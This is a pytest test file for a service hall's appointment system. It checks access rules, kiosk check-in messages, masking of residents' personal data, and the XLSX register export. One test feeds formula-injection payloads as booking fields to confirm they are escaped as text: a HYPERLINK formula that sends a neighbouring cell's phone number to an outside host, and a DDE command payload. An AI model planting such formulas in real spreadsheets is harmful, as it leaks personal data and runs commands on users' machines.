"""Appointments and the guide desk over HTTP and Socket.IO: who may do what, every kiosk message, personal data in
full only for the guide desk and the admin (masked for clerks and kiosks, absent from displays, the snapshot, events,
the paper ticket, the tracking page and the logs), the 登记表 as XLSX and as a print page."""

from __future__ import annotations

import io
import logging
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from server.clock import ManualClock
from server.models import TicketEvent
from server.register import COLUMNS
from tests.api.conftest import HallApp, open_hall_app
from tests.api.test_api import err
from tests.api.test_printing import Outcomes, network_printer, ticket_jobs
from tests.api.test_realtime import received, socketio_of
from tests.printing.fake_printer import FakePrinter
from tests.unit.test_appointments import APPOINTMENT_HALL, SHANGHAI

NAME, PHONE, ID_DIGITS, NOTES = "张小三", "13812341234", "12345X", "腿脚不便，女儿陪同"
PERSONAL = (NAME, PHONE, ID_DIGITS, NOTES, "1381234")
MONDAY, TUESDAY = "2026-11-30", "2026-12-01"


def local(day: str, hour: int, minute: int = 0, second: int = 0) -> datetime:
    return datetime.fromisoformat(day).replace(hour=hour, minute=minute, second=second, tzinfo=SHANGHAI)


def no_personal_data(payload: Any) -> None:
    text = str(payload)
    for secret in PERSONAL:
        assert secret not in text, f"{secret!r} leaked into {text[:300]}"


@pytest.fixture
def hall_app(tmp_path: Path, database_url: str, clock: ManualClock) -> Iterator[HallApp]:
    yield from open_hall_app(tmp_path, database_url, clock, APPOINTMENT_HALL)


def book(hall_app: HallApp, client: Any = None, **changes: Any) -> dict[str, Any]:
    data = {"service": "id-card", "date": TUESDAY, "slot": "09:00", "kind": "window", "channel": "phone",
            "name": NAME, "phone": PHONE, "id_last6": ID_DIGITS, "notes": NOTES, **changes}
    answer = (client or hall_app.staff("guide")).post("/api/appointments", json=data)
    assert answer.status_code == 201, answer.json
    return answer.json["appointment"]


def check_in(hall_app: HallApp, status: int, code: str | None = None, **body: Any) -> dict[str, Any]:
    answer = hall_app.kiosk().post("/api/appointments/check-in", json={"code": code} if code else body)
    assert answer.status_code == status, answer.json
    return answer.json


# ---------------------------------------------------------------- who may do what

def test_only_the_guide_desk_and_the_admin_register_and_list_appointments(hall_app: HallApp) -> None:
    admin = book(hall_app, hall_app.staff("admin"), phone="13900000001")
    guide = book(hall_app)
    assert len(guide["code"]) == 6 and guide["name"] == NAME and guide["phone"] == PHONE and guide["notes"] == NOTES
    assert admin["booked_by"] == "admin" and guide["booked_by_name"] == "guide"
    listed = hall_app.staff("guide").get(f"/api/appointments?date={TUESDAY}").json
    assert [a["code"] for a in listed["appointments"]] == [admin["code"], guide["code"]]
    assert listed["appointments"][1]["id_last6"] == ID_DIGITS
    body = {"service": "id-card", "date": TUESDAY, "slot": "10:00", "channel": "phone", "name": NAME, "phone": PHONE}
    for client in (hall_app.staff("clerk1"), hall_app.kiosk(), hall_app.display()):
        err(client.get(f"/api/appointments?date={TUESDAY}"), 403, "forbidden")
        err(client.post("/api/appointments", json=body), 403, "forbidden")
        err(client.get(f"/api/appointments/register.xlsx?date={TUESDAY}"), 403, "forbidden")
        err(client.post(f"/api/appointments/{guide['id']}/cancel"), 403, "forbidden")
        err(client.get("/api/appointments/setup"), 403, "forbidden")
    err(hall_app.app.test_client().get("/api/appointments"), 401, "unauthorized")
    err(hall_app.display().post("/api/appointments/check-in", json={"code": guide["code"]}), 403, "forbidden")
    err(hall_app.staff("clerk1").post("/api/appointments/check-in", json={"code": guide["code"]}), 403, "forbidden")


def test_booking_refusals_are_readable_answers(hall_app: HallApp) -> None:
    guide = hall_app.staff("guide")
    book(hall_app, slot="14:00")
    body = {"service": "id-card", "date": TUESDAY, "slot": "14:00", "channel": "phone", "name": "李四",
            "phone": PHONE}
    err(guide.post("/api/appointments", json=body), 409, "duplicate_appointment")
    err(guide.post("/api/appointments", json={**body, "date": "2026-12-05"}), 409, "no_such_slot")
    err(guide.post("/api/appointments", json={**body, "date": "12/01"}), 422, "bad_date")
    err(guide.post("/api/appointments", json={**body, "phone": None}), 422, "missing_field")
    err(guide.post("/api/appointments", json={**body, "name": 5}), 422, "bad_field")
    err(guide.post("/api/appointments", json=[body]), 400, "bad_json")
    too_long = guide.post("/api/appointments", json={**body, "name": "阿" * 40})  # refused, not cut to 32
    err(too_long, 422, "too_long")
    assert "最多 32 字" in too_long.json["error"]["message"] and "40 字" in too_long.json["error"]["message"]
    for n in (2, 3):
        book(hall_app, slot="14:00", phone=f"1390000000{n}")
    err(guide.post("/api/appointments", json={**body, "phone": "13900000009"}), 409, "slot_full")
    slots = guide.get(f"/api/appointments/slots?date={TUESDAY}&service=id-card").json["slots"]
    assert [(s["start"], s["left"]) for s in slots] == [("09:00", 2), ("10:00", 2), ("14:00", 0)]
    err(guide.get(f"/api/appointments/slots?date={TUESDAY}"), 422, "missing_field")
    closed = guide.get("/api/appointments/slots?date=2026-12-05&service=id-card").json
    assert closed["slots"] == [] and "中心不开放" in closed["message"]


def test_the_desk_form_gets_the_item_guides_staff_and_rules(hall_app: HallApp) -> None:
    setup = hall_app.staff("guide").get("/api/appointments/setup").json
    assert [k["code"] for k in setup["kinds"]] == ["window", "home", "holiday"]
    assert [c["code"] for c in setup["channels"]] == ["phone", "letter", "desk", "online"]
    assert setup["reject_reasons"] == ["材料不齐"] and setup["forfeit_after_minutes"] == 30
    assert {s["username"] for s in setup["staff"]} == {"clerk1", "clerk2", "guide", "admin"}
    assert set(setup["services"][0]["guide"]) == {"materials", "steps", "time_limit", "fees"}


# ---------------------------------------------------------------- check-in at the kiosk: every message

def test_the_kiosk_checks_in_and_gets_a_masked_answer_and_a_ticket_tagged_appointment(hall_app: HallApp) -> None:
    code = book(hall_app)["code"]
    hall_app.clock.set(local(TUESDAY, 8, 50))
    walk_in = hall_app.kiosk().post("/api/tickets", json={"service": "id-card"}).json["ticket"]
    answer = check_in(hall_app, 201, code)
    ticket, appointment = answer["ticket"], answer["appointment"]
    assert ticket["appointment"] is True and ticket["waiting_ahead"] == 0 and ticket["track_url"]
    assert answer["print"]["status"] == "none"
    assert (appointment["name"], appointment["phone"], appointment["id_last6"]) == ("张*三", "138****1234", "****5X")
    assert {"code", "notes", "reason", "booked_by"}.isdisjoint(appointment)
    no_personal_data(answer)
    assert hall_app.kiosk().get(f"/api/tickets/{walk_in['id']}").json["ticket"]["waiting_ahead"] == 1
    # the kiosk token may check in, never list or read appointments
    err(hall_app.kiosk().get(f"/api/tickets/{ticket['id']}/appointment"), 403, "forbidden")
    err(hall_app.kiosk().get("/api/appointments/assigned"), 403, "forbidden")
    err(hall_app.kiosk().get(f"/api/tickets?number={ticket['number']}"), 403, "forbidden")


def test_every_kiosk_message(hall_app: HallApp) -> None:
    guide = hall_app.staff("guide")
    code = book(hall_app)["code"]
    unknown = "000000" if code != "000000" else "111111"
    message = check_in(hall_app, 404, unknown)["error"]
    assert message["code"] == "appointment_not_found" and "没有找到这个预约码" in message["message"]
    assert check_in(hall_app, 422, "12ab56")["error"]["code"] == "bad_code"
    assert check_in(hall_app, 422, phone="1381234")["error"]["code"] == "bad_phone"
    assert check_in(hall_app, 404, phone="13999999999")["error"]["code"] == "appointment_not_found"

    not_today = check_in(hall_app, 409, code)["error"]  # Monday, for Tuesday
    assert not_today["code"] == "appointment_not_today"
    assert not_today["message"] == "您的预约是 明天 09:00-10:00，不是今天。请在预约当天 08:30 以后来签到"
    hall_app.clock.set(local(TUESDAY, 8, 10))
    early = check_in(hall_app, 409, code)["error"]
    assert early["code"] == "appointment_too_early" and "08:30 起可以签到" in early["message"]
    hall_app.clock.set(local(TUESDAY, 9, 10))
    ticket = check_in(hall_app, 201, phone=PHONE)["ticket"]
    again = check_in(hall_app, 409, code)["error"]
    assert again["code"] == "appointment_checked_in" and again["detail"] == {"number": ticket["number"]}
    assert f"您的号码是 {ticket['number']}" in again["message"]

    late = book(hall_app, slot="14:00", phone="13900000001")
    hall_app.clock.set(local(TUESDAY, 14, 30, 1))
    forfeited = check_in(hall_app, 409, late["code"])["error"]
    assert forfeited["code"] == "appointment_forfeited" and "视为放弃" in forfeited["message"]
    assert forfeited["detail"] == {"service": "id-card", "service_name": "居民身份证核发"}
    offered = hall_app.kiosk().post("/api/tickets", json={"service": forfeited["detail"]["service"]})
    assert offered.status_code == 201 and offered.json["ticket"]["appointment"] is False

    hall_app.clock.set(local(MONDAY, 9))
    cancelled = book(hall_app, phone="13900000002")
    guide.post(f"/api/appointments/{cancelled['id']}/cancel", json={"reason": "本人来电取消"})
    assert check_in(hall_app, 409, cancelled["code"])["error"]["code"] == "appointment_cancelled"
    rejected = book(hall_app, phone="13900000003", slot="10:00")
    err(guide.post(f"/api/appointments/{rejected['id']}/reject", json={}), 422, "missing_field")
    assert guide.post(f"/api/appointments/{rejected['id']}/reject", json={"reason": "材料不齐"}).status_code == 200
    refused = check_in(hall_app, 409, rejected["code"])["error"]
    assert refused["code"] == "appointment_rejected" and "材料不齐" not in refused["message"]  # the desk's words
    for answer in (not_today, early, again, forfeited, refused):
        no_personal_data(answer)


def test_the_desk_checks_in_a_resident_who_came_to_it(hall_app: HallApp) -> None:
    code = book(hall_app)["code"]
    hall_app.clock.set(local(TUESDAY, 9))
    answer = hall_app.staff("guide").post("/api/appointments/check-in", json={"code": code})
    assert answer.status_code == 201 and answer.json["ticket"]["channel"] == "desk"
    assert answer.json["appointment"]["name"] == NAME  # the desk sees it in full


# ---------------------------------------------------------------- masking everywhere but the desk

def test_a_clerk_sees_the_appointment_masked_and_the_display_nothing(hall_app: HallApp) -> None:
    code = book(hall_app)["code"]
    hall_app.clock.set(local(TUESDAY, 9))
    display = socketio_of(hall_app).test_client(hall_app.app, auth={"token": hall_app.display_token})
    staff_socket = socketio_of(hall_app).test_client(hall_app.app, flask_test_client=hall_app.staff("clerk1"))
    ticket = check_in(hall_app, 201, code)["ticket"]
    clerk = hall_app.staff("clerk1", window=1)
    called = clerk.post("/api/windows/1/call-next").json["ticket"]
    assert called["number"] == ticket["number"] and called["appointment"] is True
    seen = clerk.get(f"/api/tickets/{ticket['id']}/appointment").json["appointment"]
    assert (seen["name"], seen["phone"], seen["slot"], seen["slot_end"]) == ("张*三", "138****1234", "09:00", "10:00")
    no_personal_data(seen)
    assert hall_app.staff("guide").get(f"/api/tickets/{ticket['id']}/appointment").json["appointment"]["name"] == NAME
    err(hall_app.display().get(f"/api/tickets/{ticket['id']}/appointment"), 403, "forbidden")
    window = next(w for w in clerk.get("/api/windows").json["windows"] if w["id"] == 1)
    assert window["current"]["appointment"] is True

    snapshot = hall_app.hall.engine.snapshot()
    no_personal_data(snapshot)
    to_display = display.get_received()
    assert [m["name"] for m in to_display].count("called") == 1
    assert "guide" not in {m["name"] for m in to_display}  # the desk's refresh hints go to staff only
    no_personal_data(to_display)
    hints = received(staff_socket, "guide")
    assert {"appointment_checked_in"} <= {h["event"] for h in hints}
    no_personal_data(hints)
    assert hall_app.display().get(f"/api/tickets/{ticket['id']}").json["ticket"]["appointment"] is True
    display.disconnect()
    staff_socket.disconnect()


def test_the_tracking_page_of_an_appointment_ticket_shows_nothing_personal(hall_app: HallApp) -> None:
    code = book(hall_app)["code"]
    hall_app.clock.set(local(TUESDAY, 9))
    path = urlsplit(check_in(hall_app, 201, code)["ticket"]["track_url"]).path
    phone = hall_app.app.test_client()
    page, state = phone.get(path), phone.get(f"{path}/state").json
    assert page.status_code == 200 and "A001" in page.text
    no_personal_data(page.text)
    no_personal_data(state)
    assert "张*三" not in page.text and "138****" not in page.text


def test_event_rows_and_logs_hold_no_personal_data(hall_app: HallApp, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    guide = hall_app.staff("guide")
    code = book(hall_app)["code"]
    home = book(hall_app, kind="home", slot="16:00", assigned_to="clerk1", phone="13900000001")
    guide.get(f"/api/appointments?date={TUESDAY}")
    guide.get(f"/api/appointments/register.xlsx?date={TUESDAY}")
    guide.get(f"/guide/register?date={TUESDAY}")
    hall_app.clock.set(local(TUESDAY, 9, 31))
    check_in(hall_app, 409, code)  # forfeited
    guide.post("/api/enquiries", json={"channel": "phone", "who": NAME, "contact": PHONE, "subject": "低保怎么申请"})
    guide.post("/api/duty-log", json={"text": f"{NAME}在大厅晕倒，已拨打120", "kind": "emergency"})
    hall_app.clock.set(local(TUESDAY, 17))
    hall_app.staff("clerk1").post(f"/api/appointments/{home['id']}/outcome", json={"done": True, "note": "已办"})
    hall_app.hall.appointments.tick()
    with hall_app.hall.storage.read() as session:
        rows = session.scalars(select(TicketEvent)).all()
    assert {"appointment_booked", "appointment_forfeited", "appointment_done", "enquiry_registered",
            "duty_logged"} <= {r.action for r in rows}
    no_personal_data([(r.action, r.actor, r.detail) for r in rows])
    assert caplog.records, "the capture sees the server's log"
    no_personal_data(caplog.text)


# ---------------------------------------------------------------- the paper ticket

def test_the_paper_ticket_says_appointment_and_nothing_personal(tmp_path: Path, database_url: str,
                                                                clock: ManualClock) -> None:
    with FakePrinter() as printer:
        config = APPOINTMENT_HALL + "\n[printing]\nstatus_interval = 3600\n" + network_printer(
            "kiosk-printer", printer.port, 0.5, 'kiosks = ["kiosk-1"]\n')
        for hall_app in open_hall_app(tmp_path, database_url, clock, config):
            outcomes = Outcomes()
            hall_app.hall.bus.subscribe(outcomes)
            code = book(hall_app)["code"]
            clock.set(local(TUESDAY, 9))
            answer = check_in(hall_app, 201, code)
            assert answer["print"]["printer"] == "kiosk-printer"
            assert outcomes.wait(1).kind == "printed"
            paper = ticket_jobs(printer, 1)[-1]
            assert "预约" in "".join(paper.inverted_texts) and "A001" in paper.double_size_texts
            assert "前面还有 0 人等候" in "\n".join(paper.texts)
            no_personal_data("\n".join(paper.texts + paper.inverted_texts + paper.qr_payloads))
            no_personal_data(b"".join(printer.jobs).decode("gb18030", errors="replace"))


# ---------------------------------------------------------------- the 登记表

def test_the_register_writes_what_residents_typed_as_text_never_a_formula(hall_app: HallApp) -> None:
    """Issue 14 (4): a name like ``=HYPERLINK(…&D4)`` would carry a neighbour's phone away when clicked."""
    name = '=HYPERLINK("http://e.cn/"&D4)'
    book(hall_app, name=name, notes="@SUM(1+1)*cmd|' /C calc'!A0")
    book(hall_app, slot="10:00", phone="13900000002", name="+1+2", notes="-3+4")
    sheet = load_workbook(io.BytesIO(hall_app.staff("guide").get(
        f"/api/appointments/register.xlsx?date={TUESDAY}").data)).active
    rows = list(sheet.iter_rows(min_row=4))
    assert [cell.data_type for row in rows for cell in row if cell.value is not None] == ["s"] * 24
    assert [(row[2].value, row[11].value) for row in rows] == [
        ("'" + name, "'@SUM(1+1)*cmd|' /C calc'!A0"), ("'+1+2", "'-3+4")]


def test_the_register_exports_as_xlsx_with_the_days_rows(hall_app: HallApp) -> None:
    first = book(hall_app, slot="10:00")
    second = book(hall_app, phone="02112345678", channel="letter", name="李四", id_last6=None, notes="")
    home = book(hall_app, kind="home", slot="15:30", assigned_to="clerk1", phone="13900000001", name="王五",
                channel="desk")
    book(hall_app, date="2026-12-02", phone="13900000009", name="赵六")  # another day
    hall_app.staff("guide").post(f"/api/appointments/{second['id']}/cancel", json={"reason": "本人来电取消"})
    answer = hall_app.staff("admin").get(f"/api/appointments/register.xlsx?date={TUESDAY}")
    assert answer.status_code == 200
    assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in answer.headers["Content-Disposition"] and "2026-12-01.xlsx" in answer.headers[
        "Content-Disposition"]
    sheet = load_workbook(io.BytesIO(answer.data)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert "中心预约服务登记表" in values[0][0] and "2026年12月1日（周二）" in values[1][0]
    assert tuple(values[2]) == COLUMNS == ("序号", "预约时间", "姓名", "联系电话", "身份证后六位", "预约事项", "方式",
                                           "类别", "预约码", "状态", "登记人", "备注")
    rows = values[3:]
    assert [r[2] for r in rows] == ["李四", NAME, "王五"]  # by time: 09:00, 10:00, 15:30; not 赵六's day
    assert rows[1] == ["2", "10:00-11:00", NAME, PHONE, ID_DIGITS, "居民身份证核发", "电话", "窗口", first["code"],
                       "已预约", "guide", NOTES]
    assert rows[0][6:10] == ["信函", "窗口", second["code"], "已取消"] and rows[0][11] == "取消原因：本人来电取消"
    assert rows[2][1] == "15:30" and rows[2][7] == "上门" and rows[2][8] == home["code"]
    assert rows[2][11] == f"{NOTES}；负责：clerk1"
    setup = sheet.page_setup
    assert (setup.orientation, setup.paperSize, sheet.print_title_rows) == ("landscape", 9, "$3:$3")
    err(hall_app.staff("guide").get("/api/appointments/register.xlsx?date=tomorrow"), 422, "bad_date")


def test_the_register_print_page_is_for_the_desk(hall_app: HallApp) -> None:
    book(hall_app)
    page = hall_app.staff("guide").get(f"/guide/register?date={TUESDAY}")
    assert page.status_code == 200
    for text in ("中心预约服务登记表", NAME, PHONE, ID_DIGITS, "身份证后六位", "/static/hallq.css"):
        assert text in page.text
    css = hall_app.app.test_client().get("/static/hallq.css").get_data(as_text=True)
    assert "@page { size: A4 landscape" in css and "@media print" in css
    for client, status in ((hall_app.staff("clerk1"), 403), (hall_app.app.test_client(), 401)):
        refused = client.get(f"/guide/register?date={TUESDAY}")
        assert refused.status_code == status and NAME not in refused.text and "导询台" in refused.text
    assert hall_app.staff("guide").get("/guide/register?date=soon").status_code == 422


# ---------------------------------------------------------------- home and holiday visits

def test_staff_see_their_own_visits_and_mark_them(hall_app: HallApp) -> None:
    home = book(hall_app, kind="home", slot="16:00", assigned_to="clerk1")
    holiday = book(hall_app, kind="holiday", date="2026-12-05", slot="10:00", assigned_to="clerk2", phone="13900000001")
    mine = hall_app.staff("clerk1").get("/api/appointments/assigned").json["appointments"]
    assert [a["id"] for a in mine] == [home["id"]] and mine[0]["name"] == "张*三"
    no_personal_data(mine)
    err(hall_app.staff("clerk1").get("/api/appointments/assigned?all=1"), 403, "forbidden")
    everyone = hall_app.staff("guide").get("/api/appointments/assigned?all=1").json["appointments"]
    assert [a["id"] for a in everyone] == [home["id"], holiday["id"]] and everyone[0]["phone"] == PHONE
    hall_app.clock.set(local(TUESDAY, 17))
    err(hall_app.staff("clerk2").post(f"/api/appointments/{home['id']}/outcome", json={"done": True}), 403,
        "not_assigned")
    err(hall_app.staff("clerk1").post(f"/api/appointments/{home['id']}/outcome", json={"done": "yes"}), 422,
        "bad_field")
    done = hall_app.staff("clerk1").post(f"/api/appointments/{home['id']}/outcome", json={"done": True, "note": "已办"})
    assert done.status_code == 200 and done.json["appointment"]["status"] == "done"
    no_personal_data(done.json)


# ---------------------------------------------------------------- the desk's other books and the ticket lookup

def test_the_duty_log_and_the_enquiry_register(hall_app: HallApp) -> None:
    guide = hall_app.staff("guide")
    hall_app.clock.set(local(MONDAY, 10, 30))
    logged = guide.post("/api/duty-log", json={"kind": "emergency", "text": "大厅一位老人身体不适，已联系家属",
                                               "at": "10:05"})
    assert logged.status_code == 201
    assert logged.json["entry"]["at"] == "2026-11-30T10:05:00+08:00" and logged.json["entry"]["kind_text"] == "突发事件"
    guide.post("/api/duty-log", json={"text": "上午打印机缺纸一次，已更换"})
    err(guide.post("/api/duty-log", json={"text": "x", "at": "11:00"}), 422, "in_the_future")
    err(guide.post("/api/duty-log", json={"text": "x", "kind": "fire"}), 422, "bad_kind")
    err(guide.post("/api/duty-log", json={"text": " "}), 422, "missing_field")
    log = guide.get(f"/api/duty-log?date={MONDAY}").json["entries"]
    assert [e["text"][:2] for e in log] == ["大厅", "上午"] and log[0]["author_name"] == "guide"
    assert guide.get(f"/api/duty-log?date={TUESDAY}").json["entries"] == []

    asked = guide.post("/api/enquiries", json={"channel": "visit", "who": NAME, "contact": PHONE,
                                                "subject": "残疾证怎么办", "answer": "已一次性告知所需材料",
                                                "referred_to": "2号窗口"})
    assert asked.status_code == 201 and asked.json["entry"]["channel_text"] == "来访"
    err(guide.post("/api/enquiries", json={"channel": "email", "subject": "x"}), 422, "bad_channel")
    err(guide.post("/api/enquiries", json={"channel": "phone"}), 422, "missing_field")
    [entry] = hall_app.staff("admin").get("/api/enquiries").json["entries"]
    assert (entry["who"], entry["contact"], entry["referred_to"]) == (NAME, PHONE, "2号窗口")
    for client in (hall_app.staff("clerk1"), hall_app.kiosk(), hall_app.display()):
        err(client.get("/api/enquiries"), 403, "forbidden")
        err(client.get("/api/duty-log"), 403, "forbidden")
        err(client.post("/api/duty-log", json={"text": "x"}), 403, "forbidden")


def test_the_desk_finds_a_ticket_by_its_number(hall_app: HallApp) -> None:
    hall_app.kiosk().post("/api/tickets", json={"service": "id-card"})
    guide = hall_app.staff("guide")
    found = guide.get("/api/tickets?number=a001").json["ticket"]
    assert found["number"] == "A001" and found["status"] == "waiting" and found["track_url"]
    err(guide.get("/api/tickets?number=A099"), 404, "number_not_found")
    err(guide.get("/api/tickets"), 422, "missing_field")
    err(hall_app.staff("clerk1").get("/api/tickets?number=A001"), 403, "forbidden")
    hall_app.clock.advance(days=1)
    err(guide.get("/api/tickets?number=A001"), 404, "number_not_found")  # today's numbers only


def test_the_forfeit_reaches_the_guide_desk_by_itself(hall_app: HallApp) -> None:
    book(hall_app)
    guide = socketio_of(hall_app).test_client(hall_app.app, flask_test_client=hall_app.staff("guide"))
    guide.get_received()
    hall_app.clock.set(local(TUESDAY, 9, 30) + timedelta(seconds=1))
    hall_app.hall.appointments.tick()  # what the server's Ticker does every 5 s
    [hint] = received(guide, "guide")
    assert hint == {"event": "appointment_forfeited", "appointment": 1, "service": "id-card", "date": TUESDAY,
                    "slot": "09:00", "kind": "window", "channel": "phone"}
    listed = hall_app.staff("guide").get(f"/api/appointments?date={TUESDAY}").json["appointments"]
    assert listed[0]["status"] == "forfeited" and listed[0]["status_text"] == "已失效（超时未到）"
    guide.disconnect()


# ---------------------------------------------------------------- appointments kept, in the hall's statistics

def test_the_statistics_count_appointments_kept_from_the_real_flow(hall_app: HallApp) -> None:
    """Booked at the desk, checked in at the kiosk or forfeited by the clock, cancelled: /api/stats counts what
    the appointments' own event rows say (issue 7's 'appointments kept')."""
    hall_app.app.extensions["hallq_ticker"].stop()  # the ticks below are the test's own
    phones = iter(f"1390000000{i}" for i in range(10))
    kept = [book(hall_app, phone=next(phones)) for _ in range(2)]  # id-card, 09:00
    late = [book(hall_app, phone=next(phones), slot="10:00"),
            book(hall_app, phone=next(phones), service="hukou", slot="10:00")]
    cancelled = book(hall_app, phone=next(phones), service="hukou", slot="09:00")
    other_day = book(hall_app, phone=next(phones), date="2026-12-02")
    assert hall_app.staff("guide").post(f"/api/appointments/{cancelled['id']}/cancel", json={"reason": "改期"}
                                        ).status_code == 200
    hall_app.clock.set(local(TUESDAY, 8, 45))
    for appointment in kept:
        check_in(hall_app, 201, appointment["code"])
    hall_app.clock.set(local(TUESDAY, 10, 30, 1))
    hall_app.hall.appointments.tick()  # 30:01 after 10:00: both forfeited by the clock
    listed = {a["id"]: a["status"] for a in hall_app.staff("guide").get(f"/api/appointments?date={TUESDAY}").json[
        "appointments"]}
    assert [listed[a["id"]] for a in (*kept, *late, cancelled)] == ["checked_in"] * 2 + ["forfeited"] * 2 + [
        "cancelled"]
    stats = hall_app.staff("admin").get(f"/api/stats?date={TUESDAY}").json
    assert stats["total"]["appointments"] == {"checked_in": 2, "forfeited": 2, "kept_rate": 0.5}
    by_service = {group["key"]: group["appointments"] for group in stats["by_service"]}
    assert by_service["id-card"] == {"checked_in": 2, "forfeited": 1, "kept_rate": pytest.approx(2 / 3, abs=1e-4)}
    assert by_service["hukou"] == {"checked_in": 0, "forfeited": 1, "kept_rate": 0.0}
    assert other_day["date"] == "2026-12-02"  # dated outside the period: not counted above
